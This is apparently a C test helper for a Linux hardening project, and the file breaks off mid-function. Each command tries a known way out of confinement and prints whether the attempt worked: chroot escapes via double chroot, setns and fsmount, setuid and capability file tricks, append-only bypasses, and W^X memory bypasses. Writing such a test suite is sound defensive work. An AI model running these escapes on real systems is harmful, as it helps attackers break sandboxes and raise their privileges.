// SPDX-License-Identifier: GPL-2.0
/*
 * rampart-attack: the guest's chroot-escape playbook. Each command tries one
 * known way out of (or around) a chroot and prints one line that says how far
 * it got: "<attack>: <step>: <errno name>" when a step was refused, or
 * "<attack>: ESCAPED" / "<attack>: done" when it worked. A case decides from
 * that line.
 *
 * "Escaped" means the real root's marker file (/rampart/variant, which a jail
 * never holds) became reachable.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/falloc.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <elf.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define MARKER "rampart/variant"

/* The new mount API (linux/mount.h), spelled out to avoid header clashes. */
#define FSCONFIG_CMD_CREATE 6
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#define OPEN_TREE_CLONE 1
#define OPEN_TREE_CLOEXEC O_CLOEXEC

static int refused(const char *attack, const char *step)
{
	printf("%s: %s: %s\n", attack, step, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
	return 1;
}

/* Whether the real root is reachable from here: through "/" or through @dirfd. */
static int escaped(const char *attack, int dirfd)
{
	if (faccessat(dirfd, dirfd == AT_FDCWD ? "/" MARKER : MARKER, F_OK, 0) == 0) {
		printf("%s: ESCAPED\n", attack);
		return 0;
	}
	printf("%s: contained\n", attack);
	return 1;
}

/* The classic: a second chroot, then ".." until the real root. */
static int double_chroot(const char *attack)
{
	mkdir("rampart-attack.d", 0700);
	if (chroot("rampart-attack.d"))
		return refused(attack, "chroot");
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return refused(attack, "chdir ..");
	if (chroot("."))
		return refused(attack, "chroot .");
	return escaped(attack, AT_FDCWD);
}

/* unshare(CLONE_NEWPID) + fork: the child is pid 1 of a new namespace. */
static int cmd_pidns(void)
{
	int status;
	pid_t pid;

	if (unshare(CLONE_NEWPID))
		return refused("pidns", "unshare(CLONE_NEWPID)");
	pid = fork();
	if (pid < 0)
		return refused("pidns", "fork");
	if (pid == 0) {
		if (chdir("/"))
			_exit(refused("pidns", "chdir /"));
		_exit(double_chroot("pidns"));
	}
	if (waitpid(pid, &status, 0) != pid)
		return refused("pidns", "waitpid");
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

/* clone(CLONE_NEWPID | CLONE_NEWNS) straight away. */
static int cmd_clone_ns(void)
{
	int status;
	pid_t pid = syscall(SYS_clone, CLONE_NEWPID | CLONE_NEWNS | SIGCHLD, NULL, NULL, NULL, 0);

	if (pid < 0)
		return refused("clone-ns", "clone(CLONE_NEWPID|CLONE_NEWNS)");
	if (pid == 0)
		_exit(double_chroot("clone-ns"));
	if (waitpid(pid, &status, 0) != pid)
		return refused("clone-ns", "waitpid");
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

/* unshare(CLONE_NEWNS) inside the chroot. */
static int cmd_mntns(void)
{
	if (unshare(CLONE_NEWNS))
		return refused("mntns", "unshare(CLONE_NEWNS)");
	return double_chroot("mntns");
}

/* setns() into a mount namespace resets the root to that namespace's root. */
static int setns_escape(const char *attack, int nsfd)
{
	if (setns(nsfd, CLONE_NEWNS))
		return refused(attack, "setns");
	return escaped(attack, AT_FDCWD);
}

/* setns through an /proc/self/ns/mnt opened inside the chroot (proc given by the admin). */
static int cmd_setns(void)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY);

	if (fd < 0)
		return refused("setns", "open /proc/self/ns/mnt");
	return setns_escape("setns", fd);
}

/* chroot JAIL with a namespace fd opened before, then setns. */
static int cmd_setns_held(const char *jail)
{
	int fd = open("/proc/self/ns/mnt", O_RDONLY);

	if (fd < 0)
		return refused("setns-held", "open /proc/self/ns/mnt");
	if (chroot(jail) || chdir("/"))
		return refused("setns-held", "chroot");
	return setns_escape("setns-held", fd);
}

static int fsopen_mount(const char *attack, const char *fstype)
{
	int fs = syscall(SYS_fsopen, fstype, 0);
	int mnt;

	if (fs < 0)
		return refused(attack, "fsopen");
	if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0))
		return refused(attack, "fsconfig create");
	mnt = syscall(SYS_fsmount, fs, 0, 0);
	if (mnt < 0)
		return refused(attack, "fsmount");
	return mnt;
}

/* fsopen("tmpfs") + fsmount + move_mount onto /mnt: mount(2) by another name. */
static int cmd_newmount(void)
{
	int mnt = fsopen_mount("newmount", "tmpfs");

	if (mnt <= 1)
		return 1;
	if (syscall(SYS_move_mount, mnt, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH))
		return refused("newmount", "move_mount");
	printf("newmount: done\n");
	return 0;
}

/* A detached proc from fsmount: /proc/1/root through it, without /proc in the jail. */
static int cmd_fsmount_proc(void)
{
	int mnt = fsopen_mount("fsmount-proc", "proc");
	int ns;

	if (mnt <= 1)
		return 1;
	if (escaped("fsmount-proc root", openat(mnt, "1/root", O_PATH | O_DIRECTORY)) == 0)
		return 0;
	ns = openat(mnt, "self/ns/mnt", O_RDONLY);
	if (ns < 0)
		return refused("fsmount-proc", "open self/ns/mnt");
	return setns_escape("fsmount-proc", ns);
}

/* open_tree(OPEN_TREE_CLONE) + move_mount: a bind mount by another name. */
static int cmd_open_tree(void)
{
	int tree = syscall(SYS_open_tree, AT_FDCWD, "/bin", OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	if (tree < 0)
		return refused("open-tree", "open_tree(OPEN_TREE_CLONE)");
	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH))
		return refused("open-tree", "move_mount");
	printf("open-tree: done\n");
	return 0;
}

/* Setuid files made without chmod: open(O_CREAT, 04755) and mknod(S_IFREG|04755). */
static int setuid_result(const char *attack, const char *path)
{
	struct stat st;

	if (stat(path, &st))
		return refused(attack, "stat");
	if (st.st_mode & S_ISUID) {
		printf("%s: done (mode %o)\n", attack, st.st_mode & 07777);
		return 0;
	}
	printf("%s: created without setuid (mode %o)\n", attack, st.st_mode & 07777);
	return 1;
}

static int cmd_create_setuid(const char *path)
{
	int fd;

	umask(0);
	fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 04755);
	if (fd < 0)
		return refused("create-setuid", "open(O_CREAT, 04755)");
	close(fd);
	return setuid_result("create-setuid", path);
}

static int cmd_mknod_setuid(const char *path)
{
	umask(0);
	if (mknod(path, S_IFREG | 04755, 0))
		return refused("mknod-setuid", "mknod(S_IFREG|04755)");
	return setuid_result("mknod-setuid", path);
}

/* A file capability (VFS_CAP_REVISION_2, cap_setuid permitted + effective). */
static int cmd_setcap(const char *path)
{
	unsigned int cap[5] = { 0x02000001, 1u << 7, 0, 0, 0 };

	if (setxattr(path, "security.capability", cap, sizeof(cap), 0))
		return refused("setcap", "setxattr(security.capability)");
	printf("setcap: done\n");
	return 0;
}

/* SIGIO as a kill: F_SETOWN a process outside, F_SETSIG SIGKILL, O_ASYNC, write. */
/* Makes BASE/d/d/.../d (DEPTH levels) holding NAME ("deep secret"), by *at() calls. */
static int cmd_deep_make(const char *base, int depth, const char *name)
{
	int fd = open(base, O_RDONLY | O_DIRECTORY), next, i;

	for (i = 0; fd >= 0 && i < depth; i++) {
		if (mkdirat(fd, "d", 0755) && errno != EEXIST)
			return refused("deep-make", "mkdirat");
		next = openat(fd, "d", O_RDONLY | O_DIRECTORY);
		close(fd);
		fd = next;
	}
	if (fd < 0)
		return refused("deep-make", "openat");
	next = openat(fd, name, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (next < 0 || write(next, "deep secret\n", 12) != 12)
		return refused("deep-make", "write");
	printf("deep-make: done\n");
	return 0;
}

/* Reads BASE/d/.../d/NAME (DEPTH levels), walking down with O_PATH descriptors. */
static int cmd_deep_read(const char *base, int depth, const char *name)
{
	char buf[64] = "";
	int fd = open(base, O_PATH), next, i;
	ssize_t n;

	for (i = 0; fd >= 0 && i < depth; i++) {
		next = openat(fd, "d", O_PATH);
		close(fd);
		fd = next;
	}
	if (fd < 0)
		return refused("deep-read", "openat(O_PATH)");
	next = openat(fd, name, O_RDONLY);
	if (next < 0)
		return refused("deep-read", "openat");
	n = read(next, buf, sizeof(buf) - 1);
	if (n < 0)
		return refused("deep-read", "read");
	buf[n > 0 ? n - 1 : 0] = 0;
	printf("deep-read: done (%s)\n", buf);
	return 0;
}

/*
 * Moves FILE into DIR, rewrites it there and moves it back: a file gaining rights by
 * a rename (an append-only log made writable).
 */
static int cmd_move_rewrite(const char *file, const char *dir)
{
	char there[512];
	const char *base = strrchr(file, '/');
	int fd;

	snprintf(there, sizeof(there), "%s/%s", dir, base ? base + 1 : file);
	if (rename(file, there))
		return refused("move-rewrite", "rename(in)");
	fd = open(there, O_WRONLY | O_TRUNC);
	if (fd < 0 || write(fd, "forged\n", 7) != 7) {
		rename(there, file);
		return refused("move-rewrite", "rewrite");
	}
	close(fd);
	if (rename(there, file))
		return refused("move-rewrite", "rename(back)");
	printf("move-rewrite: done\n");
	return 0;
}

static int shared_fs_sleeper(void *arg)
{
	(void)arg;
	sleep(3);
	return 0;
}

/*
 * Runs ARGV while a child made with CLONE_FS (root, working directory and umask
 * shared) lives on: the exec is an LSM_UNSAFE_SHARE one.
 */
static int cmd_shared_fs_exec(char **argv)
{
	static char stack[64 * 1024];
	pid_t child = clone(shared_fs_sleeper, stack + sizeof(stack), CLONE_FS | SIGCHLD, NULL);

	if (child < 0) {
		printf("shared-fs-exec: clone(CLONE_FS): %s\n", strerrorname_np(errno));
		return 2;
	}
	execv(argv[0], argv);
	printf("shared-fs-exec: refused at execve: %s\n", strerrorname_np(errno) ?: "?");
	kill(child, SIGKILL);
	return 1;
}

static int cmd_sigio(pid_t target)
{
	int p[2];

	if (pipe(p))
		return refused("sigio", "pipe");
	if (fcntl(p[0], F_SETOWN, target))
		return refused("sigio", "F_SETOWN");
	if (fcntl(p[0], F_SETSIG, SIGKILL))
		return refused("sigio", "F_SETSIG");
	if (fcntl(p[0], F_SETFL, O_ASYNC))
		return refused("sigio", "F_SETFL O_ASYNC");
	if (write(p[1], "x", 1) != 1)
		return refused("sigio", "write");
	printf("sigio: done\n");
	return 0;
}

/* chroot JAIL holding a directory opened before, then chdir to /proc/self/fd/N. */
static int cmd_fd_chdir(const char *jail)
{
	char link[64];
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		return refused("fd-chdir", "open /");
	if (chroot(jail) || chdir("/"))
		return refused("fd-chdir", "chroot");
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (chdir(link))
		return refused("fd-chdir", "chdir /proc/self/fd");
	/* The working directory is the real root now: reachable by relative paths. */
	if (access(MARKER, F_OK) == 0) {
		printf("fd-chdir: ESCAPED\n");
		return 0;
	}
	printf("fd-chdir: contained\n");
	return 1;
}

/* Drops every capability (effective, permitted, inheritable) and stays uid 0. */
static int drop_capabilities(void)
{
	struct { unsigned int version; int pid; } header = { 0x20080522, 0 };
	struct { unsigned int effective, permitted, inheritable; } data[2] = { { 0 } };

	return syscall(SYS_capset, &header, data);
}

/* uid 0 with no capabilities writes TEXT to a settings FILE, opened before or after. */
static int cmd_nocap_write(const char *path, const char *text, int open_first)
{
	int fd = open_first ? open(path, O_WRONLY) : -1;

	if (open_first && fd < 0)
		return refused("nocap-write", "open with capabilities");
	if (drop_capabilities())
		return refused("nocap-write", "capset");
	if (!open_first && (fd = open(path, O_WRONLY)) < 0)
		return refused("nocap-write", "open");
	if (write(fd, text, strlen(text)) < 0)
		return refused("nocap-write", "write");
	printf("nocap-write: done\n");
	return 0;
}

/* A container runtime's user namespace, kept alive until killed. */
static int cmd_userns_hold(void)
{
	if (unshare(CLONE_NEWUSER))
		return refused("userns-hold", "unshare(CLONE_NEWUSER)");
	printf("userns-hold: ready\n");
	pause();
	return 0;
}

/* Joining another program's user namespace, then using its capabilities there. */
static int cmd_userns_join(pid_t holder)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/ns/user", holder);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return refused("userns-join", "open");
	if (setns(fd, CLONE_NEWUSER))
		return refused("userns-join", "setns(CLONE_NEWUSER)");
	if (unshare(CLONE_NEWNET))
		return refused("userns-join", "unshare(CLONE_NEWNET)");
	printf("userns-join: done\n");
	return 0;
}

/*
 * Ways around an append-only right: truncating opens, ftruncate, punching holes,
 * clearing O_APPEND then pwrite at 0, renaming over the file, exchanging it.
 */
static int cmd_unappend(const char *how, const char *path, const char *other)
{
	int fd;

	if (!strcmp(how, "open-trunc")) {
		if (open(path, O_WRONLY | O_APPEND | O_TRUNC) < 0)
			return refused(how, "open(O_APPEND|O_TRUNC)");
	} else if (!strcmp(how, "rename-over")) {
		if (rename(other, path))
			return refused(how, "rename");
	} else if (!strcmp(how, "exchange")) {
		if (syscall(SYS_renameat2, AT_FDCWD, other, AT_FDCWD, path, 2 /* RENAME_EXCHANGE */))
			return refused(how, "renameat2(RENAME_EXCHANGE)");
	} else {
		fd = open(path, O_WRONLY | O_APPEND);
		if (fd < 0)
			return refused(how, "open(O_APPEND)");
		if (!strcmp(how, "ftruncate")) {
			if (ftruncate(fd, 0))
				return refused(how, "ftruncate");
		} else if (!strcmp(how, "punch")) {
			if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096))
				return refused(how, "fallocate(PUNCH_HOLE)");
		} else if (!strcmp(how, "setfl")) {
			if (fcntl(fd, F_SETFL, 0))
				return refused(how, "fcntl(F_SETFL, 0)");
			if (pwrite(fd, "X", 1, 0) != 1)
				return refused(how, "pwrite");
		} else if (!strcmp(how, "append")) {
			if (write(fd, "appended\n", 9) != 9)
				return refused(how, "write");
		} else {
			return 2;
		}
	}
	printf("%s: done\n", how);
	return 0;
}

/* Reads a byte of PATH. */
static int cmd_read(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY);

	if (fd < 0 || read(fd, &byte, 1) < 0)
		return refused("read", "open");
	printf("read: done\n");
	return 0;
}

/* Reads a byte from descriptor FD (inherited across exec). */
static int cmd_read_fd(int fd)
{
	char byte;
	ssize_t n = read(fd, &byte, 1);

	if (n < 0)
		return refused("read-fd", "read");
	if (n == 0) {
		printf("read-fd: nothing (end of file)\n");
		return 1;
	}
	printf("read-fd: done\n");
	return 0;
}

/* Maps PATH executable without exec (as ld.so does), or read-only and then mprotect(PROT_EXEC). */
static int cmd_map_exec(const char *how, const char *path)
{
	int fd = open(path, O_RDONLY);
	void *p;

	if (fd < 0)
		return refused(how, "open");
	if (!strcmp(how, "mmap-exec")) {
		if (mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
			return refused(how, "mmap(PROT_EXEC)");
	} else {
		p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
		if (p == MAP_FAILED)
			return refused(how, "mmap(PROT_READ)");
		if (mprotect(p, 4096, PROT_READ | PROT_EXEC))
			return refused(how, "mprotect(PROT_EXEC)");
	}
	printf("%s: done\n", how);
	return 0;
}

/* Hard-links SRC as DST. */
static int cmd_link(const char *src, const char *dst)
{
	if (link(src, dst))
		return refused("link", "link");
	printf("link: done\n");
	return 0;
}

/* Kernel pseudo-files a confined program needs: a pidfd and a pipe. */
static int cmd_pseudo_files(void)
{
	int p[2];

	if (syscall(SYS_pidfd_open, getpid(), 0) < 0)
		return refused("pseudo-files", "pidfd_open");
	if (pipe(p))
		return refused("pseudo-files", "pipe");
	printf("pseudo-files: done\n");
	return 0;
}

/* Root's CAP_SYS_ADMIN from inside the chroot: sethostname to the same name. */
static int cmd_sethostname(void)
{
	char name[65] = "";

	if (gethostname(name, sizeof(name) - 1))
		return refused("sethostname", "gethostname");
	if (sethostname(name, strlen(name)))
		return refused("sethostname", "sethostname");
	printf("sethostname: done\n");
	return 0;
}

/* Raising priority from inside the chroot. */
static int cmd_nice(void)
{
	if (setpriority(PRIO_PROCESS, 0, -5))
		return refused("nice", "setpriority(-5)");
	printf("nice: done\n");
	return 0;
}

/* An abstract unix socket address: "\0" NAME. */
static socklen_t abstract_addr(struct sockaddr_un *sun, const char *name)
{
	memset(sun, 0, sizeof(*sun));
	sun->sun_family = AF_UNIX;
	strncpy(sun->sun_path + 1, name, sizeof(sun->sun_path) - 2);
	return offsetof(struct sockaddr_un, sun_path) + 1 + strlen(sun->sun_path + 1);
}

/* Listens on the abstract stream socket @name and accepts (and closes) forever. */
static int cmd_unix_listen(const char *name)
{
	struct sockaddr_un sun;
	socklen_t len = abstract_addr(&sun, name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	if (s < 0 || bind(s, (struct sockaddr *)&sun, len) || listen(s, 16))
		return refused("unix-listen", "bind");
	printf("unix-listen: listening\n");
	for (;;) {
		int c = accept(s, NULL, NULL);

		if (c >= 0)
			close(c);
	}
}

/* CHROOT_UNIX: connect to the abstract stream socket @name. */
static int cmd_unix_connect(const char *name)
{
	struct sockaddr_un sun;
	socklen_t len = abstract_addr(&sun, name);
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	if (s < 0)
		return refused("unix-connect", "socket");
	if (connect(s, (struct sockaddr *)&sun, len))
		return refused("unix-connect", "connect");
	printf("unix-connect: done\n");
	return 0;
}

/* Creates a System V shared memory segment and prints its id. */
static int cmd_shm_create(void)
{
	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0666);

	if (id < 0)
		return refused("shm-create", "shmget");
	printf("%d\n", id);
	return 0;
}

/* CHROOT_SHMAT: attach segment @id. */
static int cmd_shmat(int id)
{
	void *at = shmat(id, NULL, 0);

	if (at == (void *)-1)
		return refused("shmat", "shmat");
	shmdt(at);
	printf("shmat: done\n");
	return 0;
}

/* Hidden objects: what access(2) and an O_PATH open say about @path. */
static int cmd_access(const char *path)
{
	if (access(path, F_OK))
		return refused("access", path);
	printf("access: done\n");
	return 0;
}

static int cmd_opath(const char *path)
{
	int fd = open(path, O_PATH);

	if (fd < 0)
		return refused("opath", path);
	close(fd);
	printf("opath: done\n");
	return 0;
}

/* The names readdir (getdents64) returns for @dir, one per line. */
static int cmd_list(const char *dir)
{
	struct dirent *e;
	DIR *d = opendir(dir);

	if (!d)
		return refused("list", dir);
	while ((e = readdir(d)))
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			printf("%s\n", e->d_name);
	closedir(d);
	return 0;
}

/*
 * Waits until a line can be read from @fifo, then reads @path: a program that
 * was renamed or moved while it waited reads with the subject it started with.
 */
static int cmd_read_after(const char *fifo, const char *path)
{
	char c;
	int f = open(fifo, O_RDONLY);

	if (f < 0 || read(f, &c, 1) != 1)
		return refused("read-after", "fifo");
	close(f);
	return cmd_read(path);
}

/*
 * A service that crashes on what a client sends: listens on [::]:@port (IPv4
 * clients arrive as mapped addresses), accepts one connection, reads, and
 * dies of SIGSEGV while the connection is open.
 */
static int cmd_crash_server(int port)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
	int one = 1, s = socket(AF_INET6, SOCK_STREAM, 0), c;
	char buf[64];

	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
	    bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 4))
		return refused("crash-server", "listen");
	printf("crash-server: listening\n");
	c = accept(s, NULL, NULL);
	if (c < 0 || read(c, buf, sizeof(buf)) <= 0)
		return refused("crash-server", "accept");
	{
		/* An address from somewhere the compiler cannot see: a real fault. */
		volatile int *volatile nowhere = (int *)(uintptr_t)(port & 0);

		*nowhere = 1;
	}
	return 1;
}

/* The client: connects to @addr:@port, sends a line, waits for the close. */
static int cmd_tcp_send(const char *addr, int port)
{
	struct sockaddr_in6 a6 = { .sin6_family = AF_INET6, .sin6_port = htons(port) };
	struct sockaddr_in a4 = { .sin_family = AF_INET, .sin_port = htons(port) };
	int v6 = strchr(addr, ':') != NULL;
	int s = socket(v6 ? AF_INET6 : AF_INET, SOCK_STREAM, 0);
	char buf[16];

	if (s < 0 || (v6 ? inet_pton(AF_INET6, addr, &a6.sin6_addr) : inet_pton(AF_INET, addr, &a4.sin_addr)) != 1)
		return refused("tcp-send", "address");
	if (v6 ? connect(s, (struct sockaddr *)&a6, sizeof(a6)) : connect(s, (struct sockaddr *)&a4, sizeof(a4)))
		return refused("tcp-send", "connect");
	if (write(s, "exploit\n", 8) != 8)
		return refused("tcp-send", "write");
	while (read(s, buf, sizeof(buf)) > 0)
		;
	printf("tcp-send: done\n");
	return 0;
}

/* W^X: x86-64 "mov eax, 42; ret", the code a JIT or an exploit stages. */
static const unsigned char wx_code[] = { 0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3 };
static unsigned char wx_data_page[2 * 4096] = { 1 };
static unsigned char wx_bss_page[2 * 4096];

static void *page_of(void *p)
{
	return (void *)((uintptr_t)p & ~(uintptr_t)4095);
}

/* Makes @page (writable, holding wx_code) executable and runs the code. */
static int wx_make_exec(const char *attack, void *page)
{
	int (*fn)(void) = (int (*)(void))page;

	memcpy(page, wx_code, sizeof(wx_code));
	if (mprotect(page, 4096, PROT_READ | PROT_EXEC))
		return refused(attack, "mprotect(PROT_EXEC)");
	if (fn() != 42)
		return refused(attack, "run");
	printf("%s: done\n", attack);
	return 0;
}

static int wx_attack(const char *what)
{
	char attack[64];
	void *p;
	int fd;

	snprintf(attack, sizeof(attack), "wx %s", what);
	if (!strcmp(what, "mmap-wx")) {
		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return refused(attack, "mmap(PROT_WRITE|PROT_EXEC)");
		printf("%s: done\n", attack);
		return 0;
	}
	if (!strcmp(what, "mprotect-anon") || !strcmp(what, "jit")) {
		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return refused(attack, "mmap");
		return wx_make_exec(attack, p);
	}
	if (!strcmp(what, "mprotect-heap")) {
		p = malloc(3 * 4096);
		if (!p)
			return refused(attack, "malloc");
		return wx_make_exec(attack, page_of((char *)p + 4096));
	}
	if (!strcmp(what, "mprotect-stack")) {
		unsigned char buf[3 * 4096];

		buf[0] = 0;
		return wx_make_exec(attack, page_of(buf + 4096));
	}
	if (!strcmp(what, "mprotect-data"))
		return wx_make_exec(attack, page_of(wx_data_page + 4096));
	if (!strcmp(what, "mprotect-bss"))
		return wx_make_exec(attack, page_of(wx_bss_page + 4096));
	if (!strcmp(what, "text-write")) {
		p = page_of((void *)wx_attack);
		if (mprotect(p, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) &&
		    mprotect(p, 4096, PROT_READ | PROT_WRITE))
			return refused(attack, "mprotect(PROT_WRITE) of text");
		printf("%s: done\n", attack);
		return 0;
	}
	if (!strcmp(what, "memfd-exec") || !strcmp(what, "file-rw-exec")) {
		fd = !strcmp(what, "memfd-exec") ? (int)syscall(SYS_memfd_create, "stage", 0)
						 : open("/tmp/rampart-wx-stage", O_RDWR | O_CREAT | O_TRUNC, 0600);
		if (fd < 0 || write(fd, wx_code, sizeof(wx_code)) != sizeof(wx_code) || ftruncate(fd, 4096))
			return refused(attack, "stage");
		p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
		if (p == MAP_FAILED)
			return refused(attack, "mmap(PROT_EXEC)");
		if (((int (*)(void))p)() != 42)
			return refused(attack, "run");
		printf("%s: done\n", attack);
		return 0;
	}
	if (!strcmp(what, "shm-exec")) {
		int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);

		if (id < 0)
			return refused(attack, "shmget");
		p = shmat(id, NULL, SHM_EXEC);
		shmctl(id, IPC_RMID, NULL);
		if (p == (void *)-1)
			return refused(attack, "shmat(SHM_EXEC)");
		printf("%s: done\n", attack);
		return 0;
	}
	if (!strcmp(what, "status")) {
		int r = prctl(0x52575800, 0, 0, 0, 0);

		if (r < 0)
			return refused(attack, "prctl");
		printf("%s: %s\n", attack, r == 1 ? "enforced" : r == 2 ? "exempt" : "off");
		return 0;
	}
	fprintf(stderr, "unknown wx attack %s\n", what);
	return 2;
}

/* Sets the extended attribute @name of @path to @value (user.pax.flags in the tests). */
static int cmd_setxattr(const char *path, const char *name, const char *value)
{
	if (setxattr(path, name, value, strlen(value), 0))
		return refused("setxattr", name);
	printf("setxattr: done\n");
	return 0;
}

/* The permissions of this process's stack, from /proc/self/maps ("rw-p"). */
static int cmd_stack_perms(void)
{
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");

	if (!f)
		return refused("stack-perms", "maps");
	while (fgets(line, sizeof(line), f)) {
		char perms[8];

		if (strstr(line, "[stack]") && sscanf(line, "%*s %7s", perms) == 1) {
			printf("stack-perms: %s\n", perms);
			return 0;
		}
	}
	return refused("stack-perms", "no [stack]");
}

/* Marks the ELF @path as asking for an executable stack (PT_GNU_STACK with X), as execstack -s does. */
static int cmd_set_execstack(const char *path)
{
	Elf64_Ehdr eh;
	Elf64_Phdr ph;
	int fd = open(path, O_RDWR);

	if (fd < 0 || pread(fd, &eh, sizeof(eh), 0) != sizeof(eh))
		return refused("set-execstack", "open");
	for (int i = 0; i < eh.e_phnum; i++) {
		off_t at = eh.e_phoff + (off_t)i * eh.e_phentsize;

		if (pread(fd, &ph, sizeof(ph), at) != sizeof(ph))
			return refused("set-execstack", "read");
		if (ph.p_type == PT_GNU_STACK) {
			ph.p_flags |= PF_X;
			if (pwrite(fd, &ph, sizeof(ph), at) != sizeof(ph))
				return refused("set-execstack", "write");
			printf("set-execstack: done\n");
			return 0;
		}
	}
	return refused("set-execstack", "no PT_GNU_STACK");
}

/*
 * Adversarial playbook (qemu/rampart/suites/adversarial): the published ways
 * around comparable protections (grsecurity's chroot and RBAC, Landlock's file
 * system tests, PaX's paxtest, LKRG's bypass history, the 2025 user namespace
 * restriction bypasses), one command each, with the same one-line results.
 */
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

/* x86-64 "mov eax, 43; ret": the code swapped in after a first run returned 42. */
static const unsigned char adv_code43[] = { 0xb8, 0x2b, 0x00, 0x00, 0x00, 0xc3 };
static const char *adv_running = "adv";

/* Executing memory that is not executable ends here, with a result line. */
static void adv_fault(int sig)
{
	printf("%s: run: %s\n", adv_running, sig == SIGSEGV ? "SIGSEGV" : "SIGBUS");
	_exit(1);
}

static int adv_run(const char *attack, void *code, int want)
{
	adv_running = attack;
	signal(SIGSEGV, adv_fault);
	signal(SIGBUS, adv_fault);
	if (((int (*)(void))code)() != want) {
		printf("%s: run: wrong result\n", attack);
		return 1;
	}
	return 0;
}

/* A shared anonymous read+exec mapping and a second view of it (mremap, old size 0) made writable. */
static int adv_wx_shared_alias(const char *attack)
{
	unsigned char *x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	unsigned char *w;

	if (x == MAP_FAILED)
		return refused(attack, "mmap(PROT_READ|PROT_EXEC, MAP_SHARED|MAP_ANONYMOUS)");
	w = mremap(x, 0, 4096, MREMAP_MAYMOVE);
	if (w == MAP_FAILED)
		return refused(attack, "mremap(old_size 0)");
	if (mprotect(w, 4096, PROT_READ))
		return refused(attack, "mprotect(alias, PROT_READ)");
	if (mprotect(w, 4096, PROT_READ | PROT_WRITE))
		return refused(attack, "mprotect(alias, PROT_READ|PROT_WRITE)");
	memcpy(w, wx_code, sizeof(wx_code));
	if (adv_run(attack, x, 42))
		return 1;
	printf("%s: done\n", attack);
	return 0;
}

/* The same through fork: the child's copy of a shared read+exec mapping made writable. */
static int adv_wx_shared_fork(const char *attack)
{
	unsigned char *x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	int status;
	pid_t pid;

	if (x == MAP_FAILED)
		return refused(attack, "mmap(PROT_READ|PROT_EXEC, MAP_SHARED|MAP_ANONYMOUS)");
	pid = fork();
	if (pid == 0) {
		if (mprotect(x, 4096, PROT_READ) || mprotect(x, 4096, PROT_READ | PROT_WRITE))
			_exit(refused(attack, "child mprotect(PROT_READ|PROT_WRITE)") + 9);
		memcpy(x, wx_code, sizeof(wx_code));
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status) || WEXITSTATUS(status))
		return 1;
	if (adv_run(attack, x, 42))
		return 1;
	printf("%s: done\n", attack);
	return 0;
}

static int adv_stage_file(const char *path)
{
	int fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0700);

	if (fd < 0 || write(fd, wx_code, sizeof(wx_code)) != sizeof(wx_code) || ftruncate(fd, 4096))
		return -1;
	return fd;
}

/*
 * A file mapped shared and writable, its descriptor closed (the mapping keeps no
 * write count), then mapped read+exec through a read-only descriptor: two views
 * of one page cache page, one writable and one executable.
 */
static int adv_wx_file_alias(const char *attack, const char *path)
{
	unsigned char *w, *x;
	int fd = adv_stage_file(path);

	if (fd < 0)
		return refused(attack, "stage");
	w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (w == MAP_FAILED)
		return refused(attack, "mmap(PROT_WRITE, MAP_SHARED)");
	close(fd);
	fd = open(path, O_RDONLY);
